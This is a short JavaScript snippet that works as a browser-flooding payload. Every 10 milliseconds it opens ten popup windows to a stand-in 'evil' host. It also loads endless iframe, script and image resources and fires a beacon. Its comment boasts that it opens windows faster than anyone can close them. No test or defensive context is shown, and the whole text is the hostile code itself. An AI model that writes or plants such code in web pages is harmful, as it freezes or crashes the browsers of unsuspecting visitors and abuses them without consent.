// Opens windows faster than anybody closes them, and asks for what never ends.
setInterval(() => { for (let n = 0; n < 10; n++) window.open('https://popup.evil.example/'); }, 10);
for (const kind of ['iframe', 'script', 'img']) {
  const it = document.createElement(kind);
  it.src = `/endless?${kind}`;
  document.body.append(it);
}
navigator.sendBeacon('/storm');
